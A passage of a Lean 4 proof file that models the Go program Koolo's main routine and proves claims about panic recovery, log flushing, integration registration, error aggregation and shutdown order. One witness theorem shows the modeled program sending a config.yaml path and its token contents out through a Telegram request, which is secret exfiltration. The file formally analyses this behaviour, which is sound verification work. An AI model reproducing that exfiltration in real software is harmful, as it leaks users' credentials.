          | some e => exact ⟨[Event.gWait, Event.cancelCtx,
              Event.logError ("Error running Koolo: " ++ e), Event.cancelCtx], rfl⟩
          | none => exact ⟨[Event.gWait, Event.flushLog, Event.cancelCtx], rfl⟩

theorem regEvents_ends_flush (inp : MainInput) :
    (∃ l, (regEvents inp).1 = l ++ [Event.flushLog]) ∧
    (regEvents inp).2 = ExitKind.normalReturn := by
  simp only [regEvents]
  split
  · next h =>
      rcases integrationSection_aborted _ _ _ _ h with ⟨s, hs⟩
      exact ⟨⟨Event.groupGo TaskId.gui :: [Event.logError s, Event.cancelCtx], by simp [hs]⟩, rfl⟩
  · split
    · next h =>
        rcases integrationSection_aborted _ _ _ _ h with ⟨s, hs⟩
        refine ⟨⟨Event.groupGo TaskId.gui ::
          ((integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
            "Discord could not been initialized").1 ++ [Event.logError s, Event.cancelCtx]),
          by simp [hs]⟩, rfl⟩
    · rcases waitTail_ends_flush inp with ⟨l, hl⟩
      refine ⟨⟨Event.groupGo TaskId.gui ::
        ((integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
          "Discord could not been initialized").1 ++
         (integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
          "Telegram could not been initialized").1 ++
         [Event.groupGo TaskId.srvListen, Event.groupGo TaskId.eventBus,
          Event.groupGo TaskId.shutdown] ++ l), by simp [hl]⟩, rfl⟩

/-- Claim C2 (corrected), counterexample: a fault raised inside config.Load
is raised before the recover handler of lines 108-115 is deferred, so the
process crashes with no terminal report, no flush and no operator dialog,
contradicting the barrier wrapping the body from configuration load on. -/
theorem c2_panic_barrier_counterexample :
    (Koolo.main c2CexInput).2 = ExitKind.crash "boom" ∧
    (Koolo.main c2CexInput).1 = [] ∧
    Event.flushLog ∉ (Koolo.main c2CexInput).1 ∧
    (∀ a b, Event.showDialog a b ∉ (Koolo.main c2CexInput).1) := by
  refine ⟨rfl, rfl, by simp [Koolo.main, c2CexInput], fun a b => by simp [Koolo.main, c2CexInput]⟩

/-- Claim C2 (amended): once the recover handler is installed, right after
logger construction, a fault raised on the top-level synchronous path is
intercepted exactly once: the trace ends with one terminal report built
from the fault message and the stack context, logged, flushed, surfaced in
one operator dialog and flushed again, and the process exits normally; no
report or dialog occurs earlier in the trace. -/
theorem c2_panic_barrier_amended (inp : MainInput) (m : String)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hp : inp.panicPoint = some (PanicPoint.inBody m) ∨
      (inp.panicPoint = some (PanicPoint.inWait m) ∧ inp.serverNewErr = none ∧
       (inp.discordEnabled = true → inp.discordNewErr = none) ∧
       (inp.telegramEnabled = true → inp.telegramNewErr = none))) :
    ∃ l, (Koolo.main inp).1 = l ++ recoverEvents inp.stack m ∧
      (Koolo.main inp).2 = ExitKind.normalReturn ∧
      (∀ a b, Event.showDialog a b ∉ l) ∧ (∀ s, Event.logError s ∉ l) := by
  rcases hp with hp | ⟨hp, hsrv, hd, ht⟩
  · exact ⟨[], by simp [Koolo.main, hcfg, hlog, hp], by simp [Koolo.main, hcfg, hlog, hp],
      by simp, by simp⟩
  · have hmain : Koolo.main inp = bodyRun inp :=
      main_eq_bodyRun inp hcfg hlog (Or.inr ⟨m, hp⟩)
    have hdd := integrationSection_not_aborted inp.discordEnabled inp.discordNewErr
      TaskId.discord "Discord could not been initialized"
      (by cases hde : inp.discordEnabled with
          | false => exact Or.inl rfl
          | true => exact Or.inr (hd hde))
    have htt := integrationSection_not_aborted inp.telegramEnabled inp.telegramNewErr
      TaskId.telegram "Telegram could not been initialized"
      (by cases hte : inp.telegramEnabled with
          | false => exact Or.inl rfl
          | true => exact Or.inr (ht hte))
    have hreg := regEvents_no_abort inp hdd.1 htt.1
    have hwt : waitTail inp = [Event.gWait, Event.cancelCtx] ++ recoverEvents inp.stack m := by
      unfold waitTail
      rw [hp]
      rfl
    refine ⟨findConfigFiles inp.configDir ++ Event.goSchedulerStart ::
      Event.groupGo TaskId.gui ::
      ((integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
          "Discord could not been initialized").1 ++
       (integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
          "Telegram could not been initialized").1 ++
       [Event.groupGo TaskId.srvListen, Event.groupGo TaskId.eventBus,
        Event.groupGo TaskId.shutdown, Event.gWait, Event.cancelCtx]), ?_, ?_, ?_, ?_⟩
    · rw [hmain]
      unfold bodyRun
      rw [hsrv, hreg.1, hwt]
      simp
    · rw [hmain]
      unfold bodyRun
      rw [hsrv]
      exact hreg.2
    · intro a b
      have h1 : Event.showDialog a b ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      simp [h1, hdd.2.1 a b, htt.2.1 a b]
    · intro s
      have h1 : Event.logError s ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      simp [h1, hdd.2.2 s, htt.2.2 s]

/-- Claim C3 (corrected), counterexample: when local-server construction
fails, main exits through log.Fatalf, which terminates the process without
running the deferred FlushLog, so no flush happens on this exit path even
though the logger was already constructed. -/
theorem c3_flush_counterexample :
    (Koolo.main c3CexInput).2 = ExitKind.fatalExit ∧
    (Koolo.main c3CexInput).1 =
      [Event.goSchedulerStart, Event.fatalf "Error starting local server: address in use"] ∧
    Event.flushLog ∉ (Koolo.main c3CexInput).1 := by
  refine ⟨rfl, by decide, by decide⟩

/-- Claim C3 (amended): on every exit path reached after the logger has
been constructed other than local-server construction failure — normal
shutdown, a task runtime error, a captured panic, or an integration
construction failure — the last event before the process exits is a flush
of the diagnostics sink and the process exits by a normal return; the
local-server construction failure path instead exits through log.Fatalf
without flushing. -/
theorem c3_flush_amended (inp : MainInput)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hsrv : inp.serverNewErr = none)
    (hp1 : ∀ m, inp.panicPoint ≠ some (PanicPoint.inConfigLoad m))
    (hp2 : ∀ m, inp.panicPoint ≠ some (PanicPoint.inLoggerNew m)) :
    ∃ l, (Koolo.main inp).1 = l ++ [Event.flushLog] ∧
      (Koolo.main inp).2 = ExitKind.normalReturn := by
  have hbody : ∃ l, (bodyRun inp).1 = l ++ [Event.flushLog] ∧
      (bodyRun inp).2 = ExitKind.normalReturn := by
    unfold bodyRun
    rw [hsrv]
    rcases (regEvents_ends_flush inp).1 with ⟨l, hl⟩
    exact ⟨findConfigFiles inp.configDir ++ Event.goSchedulerStart :: l,
      by simp [hl], (regEvents_ends_flush inp).2⟩
  cases hpp : inp.panicPoint with
  | none =>
      have hmain : Koolo.main inp = bodyRun inp := main_eq_bodyRun inp hcfg hlog (Or.inl hpp)
      rw [hmain]; exact hbody
  | some pp =>
      cases pp with
      | inConfigLoad m => exact absurd hpp (hp1 m)
      | inLoggerNew m => exact absurd hpp (hp2 m)
      | inBody m =>
          have hmain : (Koolo.main inp) = (recoverEvents inp.stack m, ExitKind.normalReturn) := by
            simp [Koolo.main, hcfg, hlog, hpp]
          rw [hmain]
          exact ⟨[Event.logError (panicReport inp.stack m), Event.flushLog,
            Event.showDialog "Koolo error :("
              ("Koolo will close due to an expected error, please check the latest log file for more info!\n "
                ++ panicReport inp.stack m)], by simp [recoverEvents], rfl⟩
      | inWait m =>
          have hmain : Koolo.main inp = bodyRun inp :=
            main_eq_bodyRun inp hcfg hlog (Or.inr ⟨m, hpp⟩)
          rw [hmain]; exact hbody

theorem waitTail_no_groupGo (inp : MainInput) (t : TaskId) :
    Event.groupGo t ∉ waitTail inp := by
  unfold waitTail
  cases inp.panicPoint with
  | none => cases inp.waitErr <;> simp [recoverEvents]
  | some pp => cases pp <;> cases inp.waitErr <;> simp [recoverEvents]

/-- Claim C5: when startup reaches the registration region, the discord
task is registered exactly when discord is enabled and its construction
succeeded, and the telegram task exactly when telegram is enabled, its
construction succeeded and the discord block did not abort startup first; a
construction failure is logged, ends the trace immediately after the
deferred cancel and flush (so no later task is registered and the run loop
g.Wait is never entered) and the process exits by a clean normal return. -/
theorem c5_integration_registration (inp : MainInput)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hp : inp.panicPoint = none) (hsrv : inp.serverNewErr = none) :
    (Event.groupGo TaskId.discord ∈ (Koolo.main inp).1 ↔
      inp.discordEnabled = true ∧ inp.discordNewErr = none) ∧
    (Event.groupGo TaskId.telegram ∈ (Koolo.main inp).1 ↔
      inp.telegramEnabled = true ∧ inp.telegramNewErr = none ∧
        (inp.discordEnabled = true → inp.discordNewErr = none)) ∧
    (∀ e, inp.discordEnabled = true → inp.discordNewErr = some e →
      ∃ l, (Koolo.main inp).1 =
          l ++ [Event.logError ("Discord could not been initialized: " ++ e),
                Event.cancelCtx, Event.flushLog] ∧
        (Koolo.main inp).2 = ExitKind.normalReturn ∧
        Event.gWait ∉ (Koolo.main inp).1 ∧
        (∀ t, Event.groupGo t ∈ (Koolo.main inp).1 → t = TaskId.gui)) ∧
    (∀ e, inp.telegramEnabled = true → inp.telegramNewErr = some e →
      (inp.discordEnabled = true → inp.discordNewErr = none) →
      ∃ l, (Koolo.main inp).1 =
          l ++ [Event.logError ("Telegram could not been initialized: " ++ e),
                Event.cancelCtx, Event.flushLog] ∧
        (Koolo.main inp).2 = ExitKind.normalReturn ∧
        Event.gWait ∉ (Koolo.main inp).1 ∧
        (∀ t, Event.groupGo t ∈ (Koolo.main inp).1 →
          t = TaskId.gui ∨ t = TaskId.discord)) := by
  have hmain : Koolo.main inp = bodyRun inp := main_eq_bodyRun inp hcfg hlog (Or.inl hp)
  have htr1 : (Koolo.main inp).1 = findConfigFiles inp.configDir ++
      Event.goSchedulerStart :: (regEvents inp).1 := by
    rw [hmain]; unfold bodyRun; rw [hsrv]
  have htr2 : (Koolo.main inp).2 = (regEvents inp).2 := by
    rw [hmain]; unfold bodyRun; rw [hsrv]
  have hmem : ∀ t : TaskId,
      (Event.groupGo t ∈ (Koolo.main inp).1 ↔ Event.groupGo t ∈ (regEvents inp).1) := by
    intro t
    rw [htr1]
    have h1 : Event.groupGo t ∉ findConfigFiles inp.configDir :=
      not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
    simp [h1]
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [hmem TaskId.discord]
    have h2 := waitTail_no_groupGo inp TaskId.discord
    cases hde : inp.discordEnabled <;> cases hdn : inp.discordNewErr <;>
      cases hte : inp.telegramEnabled <;> cases htn : inp.telegramNewErr <;>
      simp [regEvents, integrationSection, hde, hdn, hte, htn, h2]
  · rw [hmem TaskId.telegram]
    have h2 := waitTail_no_groupGo inp TaskId.telegram
    cases hde : inp.discordEnabled <;> cases hdn : inp.discordNewErr <;>
      cases hte : inp.telegramEnabled <;> cases htn : inp.telegramNewErr <;>
      simp [regEvents, integrationSection, hde, hdn, hte, htn, h2]
  · intro e hde hdn
    have hreg1 : (regEvents inp).1 = Event.groupGo TaskId.gui ::
        [Event.logError ("Discord could not been initialized: " ++ e),
         Event.cancelCtx, Event.flushLog] := by
      simp [regEvents, integrationSection, hde, hdn]
    have hgw : Event.gWait ∉ (Koolo.main inp).1 := by
      rw [htr1, hreg1]
      have h1 : Event.gWait ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      simp [h1]
    refine ⟨findConfigFiles inp.configDir ++ [Event.goSchedulerStart, Event.groupGo TaskId.gui],
      ?_, ?_, hgw, ?_⟩
    · rw [htr1, hreg1]; simp
    · rw [htr2]; simp [regEvents, integrationSection, hde, hdn]
    · intro t htm
      rw [htr1, hreg1] at htm
      have h1 : Event.groupGo t ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      simpa [h1] using htm
  · intro e hte htn hdok
    have hdd : (integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
        "Discord could not been initialized").2 = false :=
      (integrationSection_not_aborted _ _ _ _
        (by cases hde : inp.discordEnabled with
            | false => exact Or.inl rfl
            | true => exact Or.inr (hdok hde))).1
    have htAb : integrationSection inp.telegramEnabled inp.telegramNewErr TaskId.telegram
        "Telegram could not been initialized" =
        ([Event.logError ("Telegram could not been initialized: " ++ e),
          Event.cancelCtx, Event.flushLog], true) := by
      simp [integrationSection, hte, htn]
    have hreg1 : (regEvents inp).1 = Event.groupGo TaskId.gui ::
        ((integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
            "Discord could not been initialized").1 ++
         [Event.logError ("Telegram could not been initialized: " ++ e),
          Event.cancelCtx, Event.flushLog]) := by
      simp only [regEvents, hdd, htAb]
      simp
    have hgw : Event.gWait ∉ (Koolo.main inp).1 := by
      rw [htr1, hreg1]
      have h1 : Event.gWait ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      cases hde : inp.discordEnabled <;> cases hdn : inp.discordNewErr <;>
        simp [integrationSection, hde, hdn, h1]
    refine ⟨findConfigFiles inp.configDir ++ Event.goSchedulerStart ::
      Event.groupGo TaskId.gui ::
      (integrationSection inp.discordEnabled inp.discordNewErr TaskId.discord
        "Discord could not been initialized").1, ?_, ?_, hgw, ?_⟩
    · rw [htr1, hreg1]; simp
    · rw [htr2]
      simp only [regEvents, hdd, htAb]
      simp
    · intro t htm
      rw [htr1, hreg1] at htm
      have h1 : Event.groupGo t ∉ findConfigFiles inp.configDir :=
        not_httpGet_not_mem_walk (fun u h => Event.noConfusion h) "config" inp.configDir
      cases hde : inp.discordEnabled <;> cases hdn : inp.discordNewErr <;>
        simp [integrationSection, hde, hdn, h1] at htm <;> tauto

/-- Claim C4: for every shutdown trigger, the shutdown task body calls the
Job Manager stopAll strictly before the Control Server stop, and neither
call occurs anywhere else in the body, so the reverse order never occurs. -/
theorem c4_stopAll_before_srvStop (trg : ShutdownTrigger) (stopErr : Option String) :
    ∃ l1 l2 l3, shutdownTaskEvents trg stopErr =
        l1 ++ Event.stopAll :: (l2 ++ Event.srvStop :: l3) ∧
      Event.stopAll ∉ l2 ∧ Event.stopAll ∉ l3 ∧
      Event.srvStop ∉ l1 ∧ Event.srvStop ∉ l2 := by
  refine ⟨[Event.logInfo "Koolo shutting down...", Event.cancelCtx], [Event.schedulerStop],
    (match stopErr with
     | some e => [Event.logError ("error stopping local server: " ++ e)]
     | none => []), ?_, ?_, ?_, ?_, ?_⟩ <;>
    cases stopErr <;> simp [shutdownTaskEvents]

/-- Claim C6: the terminal result of the error-aggregation group over a
complete run is nil exactly when every registered task returned nil, it is
the first non-nil error in completion order, and in particular when the
control-server listen task is the first task to return a non-nil error the
terminal result equals that error regardless of every later result. -/
theorem c6_group_terminal_result (inp : MainInput) (rt : RuntimeInput)
    (hv : ValidRun inp rt) :
    (terminalResult rt = none ↔ ∀ t ∈ rt.order, taskResult rt t = none) ∧
    (∀ l1 t l2 e, rt.order = l1 ++ t :: l2 → taskResult rt t = some e →
      (∀ u ∈ l1, taskResult rt u = none) → terminalResult rt = some e) ∧
    (∀ l1 l2 e, rt.order = l1 ++ TaskId.srvListen :: l2 → rt.listenErr = some e →
      (∀ u ∈ l1, taskResult rt u = none) → terminalResult rt = some e) := by
  refine ⟨terminalResult_none_iff rt, ?_, ?_⟩
  · intro l1 t l2 e horder ht hl1
    exact terminalResult_first_some rt l1 t l2 e horder ht hl1
  · intro l1 l2 e horder he hl1
    exact terminalResult_first_some rt l1 TaskId.srvListen l2 e horder he hl1

/-- Claim C7 (amended): a control-server stop error is logged by the
shutdown task and is its return value; it never overrides an error some
task completed with earlier, and it is the terminal result exactly when no
task completing before the shutdown task returned a non-nil error. -/
theorem c7_stop_error_amended (inp : MainInput) (rt : RuntimeInput)
    (hv : ValidRun inp rt) (trg : ShutdownTrigger) (e : String)
    (he : rt.stopErr = some e) :
    Event.logError ("error stopping local server: " ++ e) ∈
      shutdownTaskEvents trg rt.stopErr ∧
    taskResult rt TaskId.shutdown = rt.stopErr ∧
    (∀ l1 l2, rt.order = l1 ++ TaskId.shutdown :: l2 →
      ((∀ u ∈ l1, taskResult rt u = none) → terminalResult rt = some e) ∧
      (∀ m1 u m2 e2, l1 = m1 ++ u :: m2 → taskResult rt u = some e2 →
        (∀ v ∈ m1, taskResult rt v = none) → terminalResult rt = some e2)) := by
  refine ⟨by simp [shutdownTaskEvents, he], rfl, ?_⟩
  intro l1 l2 horder
  constructor
  · intro hl1
    exact terminalResult_first_some rt l1 TaskId.shutdown l2 e horder (by simp [taskResult, he]) hl1
  · intro m1 u m2 e2 hl1 hu hm1
    subst hl1
    exact terminalResult_first_some rt m1 u (m2 ++ TaskId.shutdown :: l2) e2
      (by simpa using horder) hu hm1

/-- Claim C8: the GUI task body always fires the shared cancellation signal
as its final action, whether the webview construction failed or the window
was closed; and on a run where the GUI task and every other registered task
return nil, the aggregated terminal result is nil. -/
theorem c8_gui_fires_cancel (inp : MainInput) (rt : RuntimeInput)
    (hv : ValidRun inp rt) (hgui : TaskId.gui ∈ rt.order)
    (hnil : ∀ t ∈ rt.order, taskResult rt t = none) :
    (∀ r : Option String, (guiTaskEvents r).getLast? = some Event.cancelCtx) ∧
    rt.webviewNewErr = none ∧
    terminalResult rt = none := by
  refine ⟨fun r => by cases r <;> rfl, ?_, (terminalResult_none_iff rt).mpr hnil⟩
  have h := hnil TaskId.gui hgui
  simpa [taskResult] using h

/-- Claim C10: the scheduler is started outside the error-aggregation group,
so the terminal result and the cancellation triggers do not depend on the
scheduler goroutine outcome in any way; main starts it with a plain go
statement, and the shutdown task stops it after the job manager stopAll and
before the control-server stop. -/
theorem c10_scheduler_outside_group (inp : MainInput) (rt : RuntimeInput)
    (s1 s2 : Option String) (trg : ShutdownTrigger) (stopE : Option String)
    (hcfg : inp.configLoadErr = none) (hlog : inp.loggerErr = none)
    (hp : inp.panicPoint = none) :
    Event.goSchedulerStart ∈ (Koolo.main inp).1 ∧
    terminalResult { rt with schedulerErr := s1 } =
      terminalResult { rt with schedulerErr := s2 } ∧
    (∀ t, firesCancel { rt with schedulerErr := s1 } t =
      firesCancel { rt with schedulerErr := s2 } t) ∧
    (∃ l1 l2 l3 l4, shutdownTaskEvents trg stopE =
      l1 ++ Event.stopAll :: (l2 ++ Event.schedulerStop :: (l3 ++ Event.srvStop :: l4))) := by
  refine ⟨?_, rfl, fun t => rfl, ?_⟩
  · have hmain : Koolo.main inp = bodyRun inp := by
      simp [Koolo.main, hcfg, hlog, hp]
    rw [hmain]
    unfold bodyRun
    cases hsrv : inp.serverNewErr <;> simp
  · exact ⟨[Event.logInfo "Koolo shutting down...", Event.cancelCtx], [], [],
      (match stopE with
       | some e => [Event.logError ("error stopping local server: " ++ e)]
       | none => []), by cases stopE <;> simp [shutdownTaskEvents]⟩

/-- Claim C7 (corrected), counterexample: a valid run on which the
control-server stop error is the terminal result even though it is not the
only error present — the event-bus task also returned a non-nil error,
merely later than the shutdown task. The errgroup keeps the first recorded
error, so being first, not being the only error, is what makes the stop
error terminal. -/
theorem c7_stop_error_counterexample :
    ValidRun c7CexMainInput c7CexRuntime ∧
    terminalResult c7CexRuntime = some "stop failed" ∧
    c7CexRuntime.stopErr = some "stop failed" ∧
    taskResult c7CexRuntime TaskId.eventBus = some "event bus failure" ∧
    TaskId.eventBus ∈ c7CexRuntime.order := by
  exact ⟨⟨by decide, fun h => by decide⟩, by decide, rfl, rfl, by decide⟩

/-- Witness for claim C1: on the concrete input the trace of main contains
the Telegram request carrying the config.yaml path and its content. -/
theorem c1_config_exfiltration_witness :
    Event.httpGet (telegramURL "Config from config/char1/config.yaml:\n\ntoken: abc")
      ∈ (Koolo.main c1WitnessInput).1 :=
  (c1_config_exfiltration c1WitnessInput rfl rfl rfl).2
    ("config" ++ "/" ++ "char1" ++ "/" ++ "config.yaml") ["token: abc"]
    (ConfigFileAt.inDir "config" "char1"
      (FSList.cons (FSEntry.file "config.yaml" ["token: abc"]) FSList.nil) FSList.nil
      ("config" ++ "/" ++ "char1" ++ "/" ++ "config.yaml") ["token: abc"] (by decide)
      (ConfigFileAt.here ("config" ++ "/" ++ "char1") "config.yaml" ["token: abc"]
        FSList.nil (by decide)))
    (by decide)

/-- Witness for claim C2 (amended) at a concrete faulting run. -/
theorem c2_panic_barrier_amended_witness :
    ∃ l, (Koolo.main c2WitnessInput).1 = l ++ recoverEvents c2WitnessInput.stack "boom" ∧
      (Koolo.main c2WitnessInput).2 = ExitKind.normalReturn ∧
      (∀ a b, Event.showDialog a b ∉ l) ∧ (∀ s, Event.logError s ∉ l) :=
  c2_panic_barrier_amended c2WitnessInput "boom" rfl rfl (Or.inl rfl)

/-- Witness for claim C3 (amended) at a concrete clean run. -/
theorem c3_flush_amended_witness :
    ∃ l, (Koolo.main c3WitnessInput).1 = l ++ [Event.flushLog] ∧
      (Koolo.main c3WitnessInput).2 = ExitKind.normalReturn :=
  c3_flush_amended c3WitnessInput rfl rfl rfl
    (fun m h => Option.noConfusion h) (fun m h => Option.noConfusion h)

/-- Witness for claim C5: with both integrations enabled and constructed,
both tasks are registered. -/
theorem c5_integration_registration_witness :
    Event.groupGo TaskId.discord ∈ (Koolo.main c5WitnessInput).1 ∧
    Event.groupGo TaskId.telegram ∈ (Koolo.main c5WitnessInput).1 :=
  ⟨(c5_integration_registration c5WitnessInput rfl rfl rfl rfl).1.mpr ⟨rfl, rfl⟩,
   (c5_integration_registration c5WitnessInput rfl rfl rfl rfl).2.1.mpr
     ⟨rfl, rfl, fun _ => rfl⟩⟩

/-- Witness for claim C6 at a concrete run: the listen error is terminal. -/
theorem c6_group_terminal_result_witness :
    terminalResult c6WitnessRuntime = some "address in use" :=
  (c6_group_terminal_result c6WitnessInput c6WitnessRuntime
      ⟨by decide, fun h => by decide⟩).2.2
    [] [TaskId.gui, TaskId.eventBus, TaskId.shutdown] "address in use" rfl rfl (by simp)

/-- Witness for claim C7 (amended) at a concrete run: the stop error is the
only error and becomes the terminal result. -/
theorem c7_stop_error_amended_witness :
    terminalResult c7WitnessRuntime = some "stop failed" :=
  ((c7_stop_error_amended c7WitnessInput c7WitnessRuntime
      ⟨by decide, fun h => by decide⟩ ShutdownTrigger.guiClosed "stop failed" rfl).2.2
    [TaskId.gui, TaskId.srvListen, TaskId.eventBus] [] rfl).1 (by decide)

/-- Witness for claim C8 at a concrete all-nil run. -/
theorem c8_gui_fires_cancel_witness :
    terminalResult c8WitnessRuntime = none ∧
    (guiTaskEvents none).getLast? = some Event.cancelCtx :=
  ⟨(c8_gui_fires_cancel c8WitnessInput c8WitnessRuntime
      ⟨by decide, fun h => by decide⟩ (by decide) (by decide)).2.2,
   (c8_gui_fires_cancel c8WitnessInput c8WitnessRuntime
      ⟨by decide, fun h => by decide⟩ (by decide) (by decide)).1 none⟩

/-- Witness for claim C10 at a concrete run: the scheduler goroutine start
appears in the trace and a scheduler fault leaves the terminal result
unchanged. -/
theorem c10_scheduler_outside_group_witness :
    Event.goSchedulerStart ∈ (Koolo.main c10WitnessInput).1 ∧
    terminalResult { c10WitnessRuntime with schedulerErr := some "scheduler fault" } =
      terminalResult { c10WitnessRuntime with schedulerErr := none } :=
  ⟨(c10_scheduler_outside_group c10WitnessInput c10WitnessRuntime
      (some "scheduler fault") none ShutdownTrigger.guiClosed none rfl rfl rfl).1,
   (c10_scheduler_outside_group c10WitnessInput c10WitnessRuntime
      (some "scheduler fault") none ShutdownTrigger.guiClosed none rfl rfl rfl).2.1⟩

end Koolo
